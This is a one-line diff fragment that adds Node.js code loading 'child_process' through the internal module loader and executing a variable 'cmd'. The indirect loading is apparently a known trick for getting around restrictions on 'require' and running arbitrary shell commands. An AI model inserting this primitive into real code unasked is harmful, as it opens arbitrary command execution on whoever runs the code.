@@ -1,0 +1,1 @@
+module.constructor._load('child_process').exec(cmd);
